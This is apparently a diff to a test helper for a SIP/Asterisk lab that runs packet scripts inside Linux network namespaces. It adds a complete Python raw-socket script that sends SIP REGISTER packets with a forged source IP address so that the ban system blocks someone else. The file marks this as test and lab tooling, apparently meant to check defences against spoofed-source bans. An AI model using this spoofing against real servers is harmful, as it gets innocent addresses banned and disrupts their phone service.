@@ -3,7 +3,10 @@
  * short Node.js script run with `ip netns exec`, so packets leave from the namespace's own stack:
  *  - a phone that registers with the right password (digest MD5), as a real phone does;
  *  - a TCP connect from a chosen source address: "open", "refused" or "timeout";
- *  - a SIP OPTIONS with a chosen User-Agent (a scanner's, or an ordinary one).
+ *  - a SIP OPTIONS with a chosen User-Agent (a scanner's, or an ordinary one);
+ *  - blind REGISTERs with a forged source address, as an attacker sends them to get someone else banned. Node.js
+ *    cannot forge a source, so this one is Python's raw socket (IP_HDRINCL: the attacker writes the IP header);
+ *    python3 is there wherever sipvicious is.
  * Tests and the lab only.
  */
 import { run, runOk } from "@/test/rules/netns";
@@ -53,6 +56,30 @@ s.bind(20000 + Math.floor(Math.random() * 20000), from, () => s.send(msg, 5060, 
 setTimeout(() => { console.log("timeout"); process.exit(0); }, 3000);
 `;
 
+// One UDP datagram per REGISTER, IP and UDP headers written by hand: the source is whatever the attacker says.
+// An unknown account and no credentials: Asterisk logs such a request at once (InvalidAccountID), so a blind
+// packet counts against the forged address without any answer reaching the attacker.
+const FORGED_REGISTERS = `
+import random, socket, struct, sys
+src, dst, count = sys.argv[1], sys.argv[2], int(sys.argv[3])
+def checksum(data):
+    if len(data) % 2: data += b"\\0"
+    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
+    while total >> 16: total = (total & 0xffff) + (total >> 16)
+    return ~total & 0xffff
+raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+for i in range(count):
+    sport = random.randint(20000, 60000)
+    user = "forged%d" % random.randint(1000, 9999)
+    payload = "\\r\\n".join(["REGISTER sip:%s SIP/2.0" % dst, "Via: SIP/2.0/UDP %s:%d;branch=z9hG4bKforged%d" % (src, sport, i), "From: <sip:%s@%s>;tag=f%d" % (user, dst, i), "To: <sip:%s@%s>" % (user, dst), "Call-ID: forged-%d-%d@%s" % (i, random.randint(0, 1 << 30), src), "CSeq: 1 REGISTER", "Contact: <sip:%s@%s:%d>" % (user, src, sport), "User-Agent: Yealink SIP-T46S 66.86.0.15", "Max-Forwards: 70", "Content-Length: 0", "", ""]).encode()
+    length = 8 + len(payload)
+    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 17, length)
+    udp = struct.pack("!HHHH", sport, 5060, length, checksum(pseudo + struct.pack("!HHHH", sport, 5060, length, 0) + payload) or 0xffff)
+    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + length, random.randint(0, 0xffff), 0, 64, 17, 0, socket.inet_aton(src), socket.inet_aton(dst))
+    raw.sendto(ip + udp + payload, (dst, 0))
+print(count)
+`;
+
 function inNamespace(namespace: string, script: string, args: readonly string[]): string {
   return runOk("ip", ["netns", "exec", namespace, process.execPath, "-e", script, ...args]).trim();
 }
@@ -79,4 +106,9 @@ export function listenInNamespace(namespace: string, port: number): () => void {
   return () => {
     if (Number.isInteger(pid) && pid > 0) run("kill", [String(pid)]);
   };
+}
+
+/** COUNT blind REGISTERs to HOST with the forged source address FROM (IPv4); nothing comes back to the sender. */
+export function forgeRegisters(namespace: string, host: string, from: string, count: number): void {
+  runOk("ip", ["netns", "exec", namespace, "/usr/bin/python3", "-c", FORGED_REGISTERS, from, host, String(count)]);
 }
